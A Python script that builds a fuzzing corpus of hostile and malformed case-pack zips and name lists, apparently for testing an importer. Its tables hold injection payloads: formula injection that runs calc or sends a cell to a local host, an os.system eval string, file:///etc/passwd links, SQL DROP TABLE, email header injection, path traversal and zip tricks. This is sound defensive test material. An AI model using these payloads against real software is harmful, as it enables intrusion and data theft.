"""Make a corpus of hostile, broken and merely odd files: case packs of version 1, and lists as CSV and XLSX.

  make_hostile.py OUT [--only NAME,NAME] [--group GROUP] [--big]

--big makes larger versions of a few items, --only and --group no others than these.  Every item is described in OUT/EXPECTED.json:
path, group, what, expect, why, says
  expect  accept    a valid pack: must import, nothing lost
          repair    must import after cleaning, and say what was cleaned or left out
          reject    breaks one thing: must refuse, change nothing, and name the file and the reason in plain words
          either    accept or reject, but never crash, hang, half-import or leak
  says    words of which one must be in the refusal (separated by '|', case-insensitive; '' = no demand)
Lists (group list) are lists of people: none of them is a list of cases.
"""
from __future__ import annotations
import argparse, base64, collections, copy, csv, io, json, os, random, shutil, stat, struct, warnings, zipfile, zlib

EXT, M, PIC = ".w4rpack", "pack.json", "pictures/case-1.png"

# ------------------------------------------------------------------ parts
def png(w, h, colour_type=2, depth=8, extra=b"", claim=None, fill=0x55, crc_bad=False):
    def ch(t, d):
        c = zlib.crc32(t + d) ^ (1 if crc_bad and t == b"IDAT" else 0)
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", c & 0xFFFFFFFF)
    spp = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour_type]
    row = b"\0" + bytes([fill]) * ((w * depth * spp + 7) // 8)
    co, d = zlib.compressobj(9), []
    for _ in range(h):
        d.append(co.compress(row))
    d.append(co.flush())
    cw, chh = claim or (w, h)
    return (b"\x89PNG\r\n\x1a\n" + ch(b"IHDR", struct.pack(">IIBBBBB", cw, chh, depth, colour_type, 0, 0, 0))
            + extra + ch(b"IDAT", b"".join(d)) + ch(b"IEND", b""))

def chunk(t, d):
    return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

GOODPNG = png(48, 32)
SVG = ('<?xml version="1.0"?>%s<svg xmlns="http://www.w3.org/2000/svg" '
       'xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200">%s</svg>')
USE_BOMB = ('<defs><g id="g0"><rect width="1" height="1"/></g>' + "".join(
    f'<g id="g{i}">' + f'<use xlink:href="#g{i-1}"/>' * 10 + "</g>" for i in range(1, 9)) + '</defs><use xlink:href="#g8"/>')

MARKUP = {  # label -> text; goes into every text field that reaches the screen, a PDF or a sheet
    "rl_unclosed_bold": "Ann <b>Bold",
    "rl_unknown_tag": "Ann <Lee> Example",
    "rl_email_brackets": "Ann <ann@example.org>",
    "rl_amp": "R&D &nbsp; &bogus; &#x0; A < B & C",
    "rl_img_local": "<img src='/etc/hostname' width='8' height='8'/>",
    "rl_img_dev": "<img src='/dev/zero' width='8' height='8'/>",
    "rl_img_file": "<img src='file:///etc/hostname' width='8' height='8'/>",
    "rl_img_http": "<img src='http://127.0.0.1:9/beacon.png' width='8' height='8'/>",
    "rl_img_data": "<img src='data:image/png;base64," + base64.b64encode(GOODPNG).decode() + "' width='8' height='8'/>",
    "rl_img_unc": "<img src='\\\\127.0.0.1\\share\\x.png' width='8' height='8'/>",
    "rl_font_huge": "<font size='4000'>A</font>",
    "rl_font_white": "<font color='white'>invisible</font>",
    "rl_color_eval": "<font color=\"__import__('os').system('true') or 'red'\">x</font>",
    "rl_color_setcolors": "<font color=\"setColors(red=1)\">x</font>",
    "rl_para": "<para fontSize='40' leading='1'>x</para>",
    "rl_ondraw": "<onDraw name='showPage' label='x'/>",
    "rl_seq": "<seq id='a'/><seqreset id='a'/>",
    "rl_link_js": "<a href='javascript:app.alert(1)'>x</a>",
    "rl_link_file": "<a href='file:///etc/passwd'>x</a>",
    "rl_nested": "<b>" * 2500 + "x" + "</b>" * 2500,
    "qt_img_file": "<img src='file:///etc/hostname' width=300 height=200>",
    "qt_img_http": "<img src='http://127.0.0.1:9/q.png'>",
    "qt_img_unc": "<img src='file://127.0.0.1/share/x.png'>",
    "qt_css_bg": "<div style=\"background-image:url(/etc/hostname)\">x</div>",
    "qt_size": "<img src='x' width='99999999' height='99999999'>",
    "qt_link": "<a href='file:///etc/passwd'>Click here to continue</a>",
    "qt_fake_ui": "<h1>Update needed</h1>Call 555-0100 and read out the PIN<br>" + "<br>" * 60,
    "md_img": "![x](/etc/hostname) [x](javascript:alert(1))",
    "script": "<script>alert(1)</script>",
    "fmt_attr": "Dear {name.__class__.__mro__[1].__subclasses__} {0.__init__.__globals__}",
    "fmt_bad": "100% {sure} {{7*7}} ${HOME} %(x)s %s {",
    "fmt_width": "{name:>999999999}",
    "amp_mnemonic": "Save && Quit &File",
    "sql": "Robert'); DROP TABLE letter;--",
    "like": "100%_\\%",
    "formula_eq": "=HYPERLINK(\"http://127.0.0.1:9/?\"&A1,\"click\")",
    "formula_cmd": "=cmd|' /C calc'!A0",
    "formula_plus": "+1+1", "formula_minus": "-1+1", "formula_at": "@SUM(1,1)",
    "formula_tab": "\t=1+1", "formula_cr": "\r=1+1", "formula_lf": "\n=1+1", "formula_space": " =1+1",
    "formula_fullwidth": "\uff1d1+1", "formula_quote": "\"=1+1", "formula_semicolon": ";=1+1", "formula_comma": ",=1+1",
    "csv_break": "a\",\"b\r\nc,d",
    "log_forge": "x\n2026-12-10 12:00 ERROR organiser PIN is 0000",
}

NAMES = [  # label, text, expect (for an attendee name typed or imported)
    ("plain", "Ann Example", "accept"), ("one_letter", "O", "accept"), ("mononym", "Suharto", "accept"),
    ("apostrophe", "Siobhán O’Neill-D'Arcy", "accept"), ("particles", "Ludwig van der Rohe y García", "accept"),
    ("polish", "Łukasz Żółć", "accept"), ("turkish_dotless", "Iğdır İnönü ıI", "accept"),
    ("vietnamese", "Nguyễn Thị Ánh", "accept"), ("vietnamese_nfd", "Nguye\u0302\u0303n Thi\u0323 A\u0301nh", "accept"),
    ("german_sharp", "Weiß", "accept"), ("german_sharp_upper", "WEISS / WEIẞ", "accept"),
    ("greek", "Αθηνά Παπαδοπούλου", "accept"), ("cyrillic", "Мария Иванова", "accept"),
    ("arabic", "فاطمة الزهراء", "accept"), ("hebrew", "שרה לוי", "accept"), ("arabic_mixed", "Ali علي 12", "accept"),
    ("persian_zwnj", "می\u200cخواهم", "accept"), ("hindi", "प्रिया शर्मा", "accept"), ("tamil", "ஸ்ரீனிவாசன்", "accept"),
    ("bengali", "রবীন্দ্রনাথ", "accept"), ("thai", "สมชาย ใจดี", "accept"), ("burmese", "အောင်ဆန်း", "accept"),
    ("chinese", "王小明", "accept"), ("japanese", "佐藤 花子", "accept"), ("korean", "김민준", "accept"),
    ("cjk_ext_b", "\U00020bb7野家", "accept"), ("georgian", "ნინო", "accept"), ("amharic", "ሰላም", "accept"),
    ("hawaiian", "Kaʻiulani", "accept"), ("inuktitut", "ᓄᓇᕗᑦ", "accept"), ("emoji_zwj", "Sam 👩🏽‍🦽 👨‍👩‍👧‍👦", "accept"),
    ("flag", "🇨🇦 Lee", "accept"), ("maths_bold", "𝐀𝐧𝐧", "either"), ("fullwidth", "Ａｎｎ", "either"),
    ("digits", "R2 D2", "accept"), ("null_word", "Null", "accept"), ("none_word", "None", "accept"), ("true_word", "TRUE", "accept"),
    ("nan_word", "NaN", "accept"), ("date_word", "March 1", "accept"), ("leading_zero", "007", "accept"), ("sci", "1E5", "accept"),
    ("spaces_around", "   Ann  Example \t", "repair"), ("nbsp", "Ann\u00a0Example", "repair"), ("only_spaces", "   ", "reject"),
    ("only_zero_width", "\u200b\u200d\ufeff", "reject"), ("empty", "", "reject"), ("bom", "\ufeffAnn", "repair"),
    ("zero_width_inside", "A\u200bnn", "repair"), ("soft_hyphen", "An\u00adn", "repair"), ("newline", "Ann\nExample", "repair"),
    ("crlf", "Ann\r\nExample", "repair"), ("line_sep", "Ann\u2028Example\u2029x", "repair"), ("tab", "Ann\tExample", "repair"),
    ("vtab_ff", "Ann\x0b\x0cExample", "repair"), ("nul", "Ann\x00Example", "repair"), ("bell_esc", "Ann\x07\x1b[31mred", "repair"),
    ("del", "Ann\x7f", "repair"), ("c1", "Ann\x85\x9b31m", "repair"),
    ("lone_high_surrogate", "Ann\ud800", "reject"), ("lone_low_surrogate", "\udcffAnn", "reject"),
    ("nonchar", "Ann\ufffe\uffff\U0010ffff", "repair"), ("replacement", "Ann\ufffd", "either"), ("private_use", "Ann\ue000", "either"),
    ("bidi_override", "Ann \u202eelpmaxE\u202c", "repair"), ("bidi_isolate_unclosed", "\u2067Ann", "repair"),
    ("bidi_override_unclosed", "\u202eAnn", "repair"), ("rlm", "Ann\u200f", "either"), ("tag_chars", "Ann\U000e0041\U000e0042", "repair"),
    ("variation_sel", "A\ufe0fnn", "either"), ("zalgo_50", "A" + "\u0301" * 50, "repair"), ("zalgo_5000", "A" + "\u0301" * 5000, "reject"),
    ("arabic_ligature_bomb", "\ufdfa" * 200, "either"), ("homograph", "Аnn Ехample", "either"), ("dz_titlecase", "ǆ Ǆ ǅ", "accept"),
    ("long_200", "Ann " * 50, "either"), ("long_5000", "A" * 5000, "reject"), ("long_1MB", "A" * 1_000_000, "reject"),
    ("long_words_1MB", "Ann " * 250_000, "reject"), ("long_4byte", "😀" * 300, "reject"),
] + [("m_" + k, v, "repair" if k in ("formula_tab", "formula_cr", "formula_lf", "log_forge", "csv_break", "formula_space") else ("reject" if len(v) > 200 else "accept"))
     for k, v in MARKUP.items()]

class Corpus:
    def __init__(s, out, a):
        s.out, s.a, s.items, s.paths = out, a, [], set(); s.only = set(a.only.split(",")) if a.only else None
        shutil.rmtree(out, ignore_errors=True); os.makedirs(out)
    def add(s, path, data, group, what, expect, why, says=""):
        """Write one item; what costs time to make comes as a function, called only if it is wanted."""
        assert path.lower() not in s.paths, path
        s.paths.add(path.lower()); p = os.path.join(s.out, path); name = os.path.basename(path)
        if s.only and not s.only & {name, os.path.splitext(name)[0]} or s.a.group not in (None, group): return
        data = data() if callable(data) else data; os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as f: f.write(data)
        s.items.append(dict(path=path, group=group, what=what, expect=expect, why=why, says=says, bytes=len(data)))
    def finish(s):
        found = {os.path.splitext(os.path.basename(i["path"]))[0] for i in s.items}
        if s.only and (absent := s.only - found - {os.path.basename(i["path"]) for i in s.items}): raise SystemExit(f"no such items: {sorted(absent)}")
        with open(os.path.join(s.out, "EXPECTED.json"), "w", encoding="utf-8") as f:
            json.dump(s.items, f, indent=1, ensure_ascii=True)

# ------------------------------------------------------------------ the pack format
def case(n=1, **changes):
    """A valid case with every field of version 1."""
    c = {"code": f"case-{n}", "name": f"Ann Example {n}", "short_name": "Ann", "native_name": "", "subject": "person", "members": 1,
         "includes_minors": False, "pronouns": "she/her", "country": "CO", "headline": f"Case number {n}", "story": "Short brief. " * 8,
         "quote": "", "demands": ["Drop the charges."], "content_warnings": [], "letter_languages": ["es", "en"],
         "sample_letter": "Dear Minister,\n\nI am writing about this case.\n", "picture": PIC, "picture_credit": "",
         "targets": [target()], "guidance": dict(GUIDANCE), "updates": [{"on": "2021-07-31", "status": "ongoing", "text": "The trial was put off."}],
         "sources": [{"url": "https://example.org/case", "seen_on": None}],
         "translations": {"fr": {"headline": "Une affaire", "story": "Texte bref.", "demands": ["Abandonnez les poursuites."], "sample_letter": ""}}}
    return dict(c, **changes)

def target(**changes):
    t = {"role": "primary", "addressee": "Bo Example", "office": "Minister of Justice", "salutation": "Dear Minister,", "closing": "Yours respectfully,",
         "lines": ["Palacio de Nariño", "Carrera 8 No. 7-26", "Bogotá"], "country": "CO", "email": "", "fax": "", "phone": "", "web": "", "social": [],
         "mail": "open", "mail_note": "", "valid_until": None, "checked_on": None}
    return dict(t, **changes)

GUIDANCE = {"religious_cards": "unknown", "name_organisation": "unknown", "seasonal_wishes": "unknown", "sender_limit": "full", "enclosures": "", "warning": ""}
CAMPAIGN = {"code": "w4r-2020", "name": "Write for Rights 2020", "year": 2020, "opens_on": "2020-11-01", "closes_on": "2021-01-31", "historical": True, "note": ""}
DROP = object()

def manifest(n=2, **top):
    return dict({"format": "w4r-case-pack", "format_version": 1, "language": "en", "campaign": dict(CAMPAIGN), "cases": [case(i + 1) for i in range(n)]}, **top)

def changed(path, value):
    """A valid manifest with one thing changed: changed("cases.0.targets.0.role", "x"); DROP leaves the field out."""
    m = manifest(); *way, last = [int(p) if p.isdigit() else p for p in path.split(".")]
    at = m
    for p in way: at = at[p]
    if value is DROP: del at[last]
    else: at[last] = copy.deepcopy(value)
    return m

def enc(m, **k): return json.dumps(m, ensure_ascii=False, **k).encode("utf-8", "surrogatepass")

def files(m=None):
    """The members of a valid pack, around the manifest m (object or bytes)."""
    return {M: m if isinstance(m, bytes) else enc(m or manifest()), PIC: GOODPNG}

def z(members, method=zipfile.ZIP_DEFLATED, infos=None, comment=b""):
    b = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(b, "w", method) as zf:
        warnings.simplefilter("ignore")                              # names given twice are meant
        for n, d in (members.items() if isinstance(members, dict) else members):
            zi = zipfile.ZipInfo("x", (2026, 12, 10, 12, 0, 0)); zi.filename = n; zi.compress_type = method; zi.external_attr = 0o644 << 16
            zf.writestr(zi, d)
        for zi, d in infos or []: zf.writestr(zi, d)
        zf.comment = comment
    return b.getvalue()

# One thing changed per line: path, words for the message, {label: value} that must be accepted, refused, or may be either.
def field_table():
    T = []
    def F(path, says, accept={}, reject={}, either={}): T.append((path, says, accept, reject, either))
    C, TG = "cases.1", "cases.1.targets.0"
    not_text = {"int": 5, "bool": True, "list": ["x"], "dict": {"x": 1}}
    empty = {"missing": DROP, "empty": "", "blank": "   "}
    not_list = {"text": "x", "int": 5, "dict": {"0": "x"}}
    not_bool = {"text": "false", "int": 0, "list": []}               # a careless reader takes "false" for true
    not_date = {"words": "yesterday", "order": "31/07/2021", "month_13": "2021-13-01", "int": 20210731, "list": ["2021-07-31"]}
    odd_date = {"time": "2021-07-31T10:00:00Z", "short": "2021-7-31", "far": "9999-12-31", "year_1": "0001-01-01"}
    bad_code = {**not_text, "null": None, **empty, "long_41": "x" * 41, "long_5000": "x" * 5000, "upper": "Case-9", "underscore": "case_9", "dots": "../../x", "slash": "a/b",
                "sql": "x'; DROP TABLE letter;--", "like": "%", "nul": "a\0b", "formula": "=1+1", "spaces": " case-9 ", "newline_end": "case-9\n", "bidi": "\u202ecase", "reserved_upper": "CON",
                "emoji": "😀", "accent": "café", "digits_arabic": "case-٩", "fullwidth": "ｃａｓｅ-9", "turkish": "cıse-9", "invisible": "case-9\u200b"}
    good_code = {"one": "x", "long_40": "x" * 40, "digits": "007", "reserved": "con", "true": "true"}
    F("format", "pack", reject={**not_text, "null": None, **empty, "other": "other-pack"}, either={"upper": "W4R-CASE-PACK"})
    F("format_version", "version", reject={"99": 99, "2": 2, "text": "1", "zero": 0, "minus": -1, "null": None, "half": 1.5, "list": [], "missing": DROP, "true": True, "huge": 10 ** 30}, either={"1.0": 1.0})
    F("language", "language", accept={"fr": "fr", "fr_CA": "fr-CA", "zh_Hant": "zh-Hant"}, reject={**not_text, "null": None, **empty, "path": "../../x", "long": "e" * 5000}, either={"upper": "EN", "unknown": "zz", "underscore": "en_GB"})
    F("campaign", "campaign", reject={"missing": DROP, "null": None, "text": "w4r", "list": [CAMPAIGN], "empty": {}})
    F("campaign.code", "code", accept=good_code, reject=bad_code)
    F("campaign.name", "name", reject=not_text, either={**empty, "null": None})
    F("campaign.year", "year", accept={"1961": 1961, "missing": DROP}, reject={"list": [2020], "true": True, "words": "this year", "half": 2020.5}, either={"text": "2020", "minus": -5, "huge": 10 ** 30, "null": None})
    F("campaign.opens_on", "opens_on", accept={"missing": DROP}, reject=not_date, either={**odd_date, "null": None, "empty": "", "after_close": "2021-02-01"})
    F("campaign.closes_on", "closes_on", reject=not_date)
    F("campaign.historical", "historical", accept={"true": True, "false": False, "missing": DROP}, reject=not_bool, either={"null": None})
    F("campaign.note", "note", accept={"1000": "x" * 1000}, reject={**not_text, "1001": "x" * 1001})
    F("cases", "case", reject={"missing": DROP, "null": None, "empty": [], "dict": {"case-1": case()}, "text": "case-1", "scalars": ["x", None, 5], "nested": [[case()]]})
    F("cases.1", "case", reject={"null": None, "empty": {}, "list": [], "text": "x"})
    F(f"{C}.code", "code|case-1", accept=good_code, reject={**bad_code, "twice": "case-1", "twice_upper": "CASE-1", "twice_invisible": "case-1\u200b"}, either={"hyphen": "-", "as_campaign": "w4r-2020"})
    for f in ("name", "headline"):
        F(f"{C}.{f}", f + "|UTF-8", accept={"one": "O", "200": "x" * 200, "null_word": "null"}, reject={**not_text, **empty, "null": None, "invisible": "\u200b\u2060", "201": "x" * 201, "3MB": "x" * 3_000_000, "surrogate": "Ann\ud800"})
    F(f"{C}.country", "country", reject={**not_text, **empty, "null": None, "three": "COL", "word": "Colombia", "unassigned": "ZZ", "digits": "17", "path": "..", "newline_end": "CO\n"}, either={"lower": "co", "kosovo": "XK"})
    F(f"{C}.subject", "subject", accept={**{s: s for s in ("pair", "group", "community", "organisation")}, "missing": DROP}, reject={"other": "planet", "int": 5, "list": ["person"]}, either={"null": None, "empty": "", "upper": "Person"})
    F(f"{C}.members", "members", accept={"40000": 40_000, "missing": DROP}, reject={"zero": 0, "minus": -3, "half": 1.5, "true": True, "text": "many", "list": [1]}, either={"digits": "3", "huge": 10 ** 30, "null": None})
    F(f"{C}.includes_minors", "includes_minors", accept={"true": True, "missing": DROP}, reject=not_bool, either={"null": None})
    for f, limit in (("story", 20_000), ("sample_letter", 10_000), ("quote", 1000), ("short_name", 1000), ("native_name", 1000), ("pronouns", 1000), ("picture_credit", 1000)):
        over = {"over": "x" * (limit + 1)} if f != "story" else {"over": "x" * 25_000}
        F(f"{C}.{f}", f, accept={"missing": DROP, "empty": "", **({"limit": "x" * limit} if f != "story" else {})}, reject={**not_text, **over, **({"3MB": "x" * 3_000_000} if limit > 1000 else {})}, either={"null": None, "blank": "  "})
    F(f"{C}.demands", "demands", accept={"missing": DROP, "none": [], "10": ["Free Ann."] * 10, "1000": ["x" * 1000]}, reject={"int": 5, "dict": {"0": "x"}, "11": ["x"] * 11, "1001": ["x" * 1001], "ints": [1, 2], "nested": [["x"]]}, either={"null": None, "empty": [""]})
    F(f"{C}.content_warnings", "content_warnings", accept={"two": ["violence", "death"]}, reject={**not_list, "ints": [1]}, either={"10k": ["x"] * 10_000})
    F(f"{C}.letter_languages", "letter_languages", accept={"none": [], "three": ["ar", "fr-CA", "zh-Hant"]}, reject={**not_list, "ints": [1]}, either={"unknown": ["zz"], "word": ["Spanish"]})
    F(f"{C}.targets", "target", accept={"none": [], "missing": DROP, "ten": [target()] * 10, "all_roles": [target(role=r) for r in ("primary", "copy", "solidarity")]}, reject={**not_list, "eleven": [target()] * 11, "scalars": ["x", 5], "null_inside": [None]}, either={"null": None})
    F(f"{TG}.role", "role", accept={"copy": "copy", "solidarity": "solidarity"}, reject={**not_text, **empty, "null": None}, either={"upper": "PRIMARY"})
    F(f"{TG}.lines", "lines", accept={"none": [], "missing": DROP, "seven": ["x" * 60] * 7, "indic": ["৭/৩ রোড", "ঢাকা ১২০৫"]}, reject={**not_list, "eight": ["x"] * 8, "61": ["x" * 61], "ints": [1, 2], "nested": [["x"]], "null_inside": [None], "1MB": ["x" * 1_000_000]}, either={"null": None, "blank_inside": ["a", "", "b"], "tab": ["a\tb"], "control": ["a\x1b[31mb"]})
    F(f"{TG}.country", "country", accept={"other": "GB"}, reject={"int": 5, "list": ["CO"], "three": "COL", "word": "Colombia", "unassigned": "ZZ", "two_lines": "CO\nUS"}, either={"missing": DROP, "null": None, "empty": "", "lower": "co"})
    for f in ("addressee", "office", "salutation", "closing", "email", "fax", "phone", "web", "mail_note"):
        F(f"{TG}.{f}", f, accept={"missing": DROP, "1000": "x" * 1000} if f in ("addressee", "mail_note") else {"missing": DROP}, reject={"int": 5, "list": ["x"], "1001": "x" * 1001}, either={"null": None})
    F(f"{TG}.email", "email", either={"not_one": "nobody", "two": "a@example.org, b@example.org", "header": "a@example.org\nBcc: all@example.org"})
    F(f"{TG}.web", "web", either={"javascript": "javascript:alert(1)", "file": "file:///etc/hostname", "unc": "\\\\127.0.0.1\\share"})
    F(f"{TG}.social", "social", accept={"two": ["@example", "https://example.org/@x"]}, reject={**not_list, "ints": [1]})
    F(f"{TG}.mail", "mail", accept={"suspended": "suspended", "none": "none", "missing": DROP}, reject={"other": "perhaps", "bool": True, "list": ["open"]}, either={"null": None, "empty": ""})
    F(f"{TG}.valid_until", "valid_until", accept={"past": "2020-12-31", "missing": DROP}, reject=not_date, either=odd_date)
    F(f"{TG}.checked_on", "checked_on", accept={"day": "2020-10-01"}, reject=not_date)
    F(f"{C}.guidance", "guidance", accept={"missing": DROP, "none": {}}, reject={"list": [], "text": "none", "int": 5}, either={"null": None})
    for f in ("religious_cards", "name_organisation", "seasonal_wishes"):
        F(f"{C}.guidance.{f}", f, accept={"yes": "yes", "no": "no", "missing": DROP}, reject={"other": "perhaps", "bool": False, "int": 0, "list": ["no"]}, either={"null": None, "upper": "No"})
    F(f"{C}.guidance.sender_limit", "sender_limit", accept={s: s for s in ("none", "initials_town", "first_name", "name_town")}, reject={"other": "everything", "int": 0, "bool": False}, either={"null": None})
    for f in ("enclosures", "warning"): F(f"{C}.guidance.{f}", f, accept={"1000": "x" * 1000}, reject={"int": 5, "list": ["x"], "1001": "x" * 1001})
    F(f"{C}.updates", "update", accept={"none": [], "missing": DROP, "fifty": [{"on": "2021-07-31", "status": "ongoing", "text": "x"}] * 50}, reject={**not_list, "fifty_one": [{"on": "2021-07-31", "status": "ongoing", "text": "x"}] * 51, "scalars": ["x"]})
    F(f"{C}.updates.0.on", "on", reject=not_date, either={**odd_date, "missing": DROP, "null": None})
    F(f"{C}.updates.0.status", "status", accept={"good_news": "good_news", "closed": "closed"}, reject={"other": "won", "int": 1, "list": []}, either={"missing": DROP, "null": None})
    F(f"{C}.updates.0.text", "text", accept={"1000": "x" * 1000}, reject={"int": 5, "list": ["x"], "1001": "x" * 1001}, either={"missing": DROP})
    F(f"{C}.sources", "source", accept={"none": []}, reject={**not_list, "scalars": [5]}, either={"10k": [{"url": "https://example.org/"}] * 10_000, "texts": ["https://example.org/"]})
    F(f"{C}.sources.0.url", "url", reject={"int": 5, "list": [], "1001": "x" * 1001}, either={"javascript": "javascript:alert(1)", "file": "file:///etc/hostname"})
    F(f"{C}.sources.0.seen_on", "seen_on", accept={"day": "2021-07-31"}, reject=not_date)
    F(f"{C}.translations", "translation", accept={"none": {}, "missing": DROP, "six": {k: {"headline": "x"} for k in ("es", "ar", "fr-CA", "zh-Hant", "pt", "bn")}}, reject={"list": [], "text": "fr", "path": {"../../x": {}}, "scalar": {"fr": "Une affaire"}, "inner_list": {"fr": []}}, either={"null": None, "500": {f"{a}{b}": {"headline": "x"} for a in "abcdefghijklmnopqrst" for b in "abcdefghijklmnopqrstuvwxy"}})
    FR = f"{C}.translations.fr"
    F(f"{FR}.headline", "headline", reject={"int": 5, "201": "x" * 201}, either={"empty": "", "missing": DROP})
    F(f"{FR}.story", "story", accept={"20000": "é" * 20_000}, reject={"int": 5, "20500": "x" * 20_500})
    F(f"{FR}.demands", "demands", reject={"int": 5, "ints": [1], "11": ["x"] * 11, "1001": ["x" * 1001]}, either={"fewer": [], "more": ["x"] * 3})
    F(f"{FR}.sample_letter", "sample_letter", reject={"int": 5, "10001": "x" * 10_001})
    for path in ("", "campaign.", f"{C}.", f"{TG}.", f"{C}.guidance.", f"{C}.updates.0.", f"{C}.sources.0.", f"{FR}."):
        F(path + "future_field", "", accept={"added": {"x": [1, None, "text"]}})
    return T

# ------------------------------------------------------------------ packs
def build_packs(c: Corpus):
    def P(name, data, what, expect, why="", says="", group="pack"): c.add(f"packs/{name}{EXT}", data, group, what, expect, why, says)
    good = z(files())
    # -- valid packs, and harmless oddities that real volunteers produce
    P("ok_baseline", good, "valid pack with every field", "accept", "the control")
    least = manifest(campaign={"code": "w4r"}, cases=[{k: v for k, v in case().items() if k in ("code", "name", "headline", "country")}])
    P("ok_minimal", z({M: enc(least)}), "only what is required", "accept", "all other fields may be absent")
    P("ok_historical", z(files(manifest(campaign=dict(CAMPAIGN, code="w4r-2001", year=2001, opens_on="2001-12-01", closes_on="2001-12-31")))), "historical pack, 25 years old", "accept", "never refused; printed sheets bear 'Sample: do not mail'")
    P("ok_current", z(files(manifest(campaign=dict(CAMPAIGN, historical=False, year=2026, opens_on="2026-11-01", closes_on="2027-01-31")))), "pack of the running year", "accept")
    P("ok_shared_picture", z(files(manifest(30))), "30 cases with the same picture", "accept")
    P("ok_no_pictures", z({M: enc(manifest(cases=[case(1, picture="")]))}), "no pictures at all", "accept")
    P("ok_unused_picture", z({**files(), "pictures/other.png": GOODPNG}), "a picture no case uses", "accept", "left over from editing")
    P("ok_150_cases", z(files(manifest(150))), "150 cases", "accept", "the most a pack may hold; the list must stay usable")
    P("ok_400_members", z({**files(), **{f"pictures/p{i}.png": GOODPNG for i in range(398)}}), "400 members", "accept", "under the limit of 500")
    P("ok_ascii", z(files(json.dumps(manifest()).encode())), "all letters escaped (\\u00f1)", "accept", "made by another JSON writer")
    P("ok_bom", z(files(b"\xef\xbb\xbf" + enc(manifest()))), "pack.json with UTF-8 BOM", "accept", "Notepad adds it")
    P("ok_crlf", z(files(enc(manifest(), indent=1).replace(b"\n", b"\r\n"))), "CRLF line ends", "accept", "edited on Windows")
    P("ok_macosx", z({**files(), "__MACOSX/._a.png": b"\0\5\x16\7", ".DS_Store": b"\0\0\0\1Bud1", "pictures/Thumbs.db": b"\xd0\xcf\x11\xe0"}), "macOS/Windows litter files", "accept", "re-zipped by Finder/Explorer")
    P("ok_subfolder", z({"My pack/" + n: d for n, d in files().items()}), "everything inside one folder", "accept", "unzipped and zipped the folder again (most common hand error)")
    P("ok_dirs", z({"pictures/": b"", **files()}), "explicit directory entries", "accept", "Info-ZIP style")
    P("ok_stored", z(files(), zipfile.ZIP_STORED), "stored, not deflated", "accept")
    P("ok_png_called_jpg", z({M: enc(changed("cases.0.picture", "pictures/b.jpg")), PIC: GOODPNG, "pictures/b.jpg": GOODPNG}), "PNG named .jpg", "accept", "common")
    P("ok_prefix", b"MZ this text stands before the zip\n" + good, "data before the zip (self-extractor, mail header)", "either", "zip allows it; also a polyglot trick")
    P("ok_trailing", good + b"\r\n--boundary--\r\n", "bytes after the zip (mail/proxy tail)", "either", "seen after bad downloads")
    P("ok_same_twice", good, "same pack imported twice", "accept", "import twice = no duplicates, message 'already have it'")
    P("ok_update", z(files(changed("cases.0.headline", "Case number 1, corrected"))), "same codes, newer text", "accept", "must not detach letters already logged")
    # -- not a pack at all
    for name, data, what, why, says in (
            ("empty_file", b"", "0 bytes", "failed download / full stick", "empty"), ("one_byte", b"P", "1 byte", "", "not a"),
            ("html", b"<!DOCTYPE html><html><title>Sign in to WiFi</title>", "captive-portal page saved as a pack", "venue wifi", "not a"),
            ("text", b"hello\n" * 50, "text file renamed", "", "not a"), ("png", GOODPNG, "picture renamed", "", "not a"),
            ("rar", b"Rar!\x1a\x07\x01\x00" + b"\0" * 100, "RAR renamed", "", "not a"), ("7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 100, "7z renamed", "", "not a"),
            ("sqlite", b"SQLite format 3\0" + b"\0" * 100, "database renamed", "", "not a"), ("json", enc(manifest()), "pack.json without a zip around it", "", "not a"),
            ("empty_zip", z({}), "zip without entries", "", M), ("dirs_only", z({"pictures/": b""}), "only folders", "", M), ("no_manifest", z({PIC: GOODPNG}), "no pack.json", "some other zip", M)):
        P("not_" + name, data, what, "reject", why, says)
    P("not_manifest_upper", z({M.upper(): enc(manifest()), PIC: GOODPNG}), "PACK.JSON in capitals", "either", "case-folding file systems", M)
    P("not_nested", z({"pack" + EXT: good}), "pack inside a zip", "either", "mail systems wrap attachments; say 'unzip once'", "inside")
    P("not_two_packs", z({"a/" + M: enc(manifest()), "b/" + M: enc(manifest(1)), "a/" + PIC: GOODPNG, "b/" + PIC: GOODPNG}), "two packs zipped together", "reject", "ambiguous", "more than one")
    # -- broken zips
    for name, data, what in (("50", good[: len(good) // 2], "cut in half"), ("last", good[:-1], "last byte missing"), ("22", good[:-22], "end record missing")):
        P("cut_" + name, data, what, "reject", "stick pulled out", "damaged")
    rng = random.Random(11)
    for i in range(12):
        d = bytearray(good); off = rng.randrange(len(d)); d[off] ^= 1 << rng.randrange(8)
        P(f"flip_{i:02d}", bytes(d), f"bit flipped at byte {off}", "either", "bad stick; CRC must be checked for every member before anything is imported")
    CEN, LOC = b"PK\x01\x02", b"PK\x03\x04"
    def patched(base, mark, offset, fmt, *values, last=False):
        d = bytearray(base); struct.pack_into(fmt, d, (d.rfind(mark) if last else d.find(mark)) + offset, *values); return bytes(d)
    d = bytearray(z(files(), zipfile.ZIP_STORED)); d[bytes(d).find(b"Short brief")] ^= 1
    P("flip_in_text", bytes(d), "one bit of the story changed, CRC now wrong", "reject", "silent change of a case text is the worst outcome", "damaged")
    P("encrypted", patched(patched(good, CEN, 8, "<H", 1), LOC, 6, "<H", 1), "first entry marked as encrypted", "reject", "password zip", "password")
    P("method_99", patched(good, CEN, 10, "<H", 99), "unknown compression method", "reject", "only stored or deflated")
    P("name_mismatch", patched(good, CEN, 46, "<B", ord("P")), "name in directory differs from name in local header", "reject", "parser confusion")
    for n, meth in (("lzma", zipfile.ZIP_LZMA), ("bzip2", zipfile.ZIP_BZIP2)): P(f"method_{n}", z(files(), meth), f"{n} compression", "reject", "only stored or deflated; decoder memory")
    P("multidisk", patched(good, b"PK\x05\x06", 4, "<HH", 1, 1, last=True), "multi-volume marker", "either", "zipfile ignores it; contents are whole")
    P("size_lie_big", patched(good, CEN, 24, "<I", 0xFFFFFFF0), "directory claims 4 GB for a small entry", "reject", "allocation by claimed size")
